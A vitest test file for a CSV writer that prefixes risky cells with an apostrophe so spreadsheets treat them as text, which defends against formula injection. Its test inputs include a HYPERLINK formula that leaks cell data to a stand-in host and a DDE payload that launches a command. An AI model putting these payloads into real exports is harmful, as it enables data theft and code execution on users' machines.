/** CSV that no spreadsheet computes, and that reads back as it was written. */

import Papa from "papaparse";
import { describe, expect, test } from "vitest";
import { type FormulaCells, writeCsv } from "../../../src/data/write-csv";

/** One cell as a reader gets it back, below a header. */
function readBack(cell: string | number, formulas?: FormulaCells): string {
  return Papa.parse<string[]>(writeCsv(["a", "b"], [[cell, "x"]], formulas), { delimiter: "," }).data[1]![0]!;
}

describe("a cell that a spreadsheet would compute becomes text", () => {
  test.each([
    '=HYPERLINK("http://evil.example?x="&A1,"press")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "－1+1",
    "- a list's item",
    "-",
    "--1",
    "-1.5.2",
    "+49 30 1234",
    "-1,5",
    "-0x10",
    "-e5",
  ])("%j", (cell) => {
    expect(readBack(cell)).toBe(`'${cell}`);
    expect(readBack(cell, "text")).toBe(`'${cell}`);
    expect(readBack(cell, "asTheyAre")).toBe(cell);
  });
});

describe("everything else stays what it is", () => {
  test.each([
    "-1.5",
    "+2",
    "-1e-7",
    "-.5",
    "+1.",
    "1-1",
    "a=b",
    "",
    " ",
    "it's",
    'a "quote", a comma',
    "two\nlines",
    "'=1",
  ])("%j", (cell) => {
    expect(readBack(cell)).toBe(cell);
    expect(readBack(cell, "asTheyAre")).toBe(cell);
  });

  test.each([-1.5, -1e-21, 0, -0, 1e300])("the number %d", (number) => {
    expect(Number(readBack(number))).toBe(number === 0 ? 0 : number);
  });
});

test("names of columns are cells too", () => {
  expect(writeCsv(["=A1", "loss"], [["a", 1]])).toBe(`"'=A1",loss\r\na,1`);
  expect(writeCsv(["=A1", "loss"], [["a", 1]], "asTheyAre")).toBe("=A1,loss\r\na,1");
});
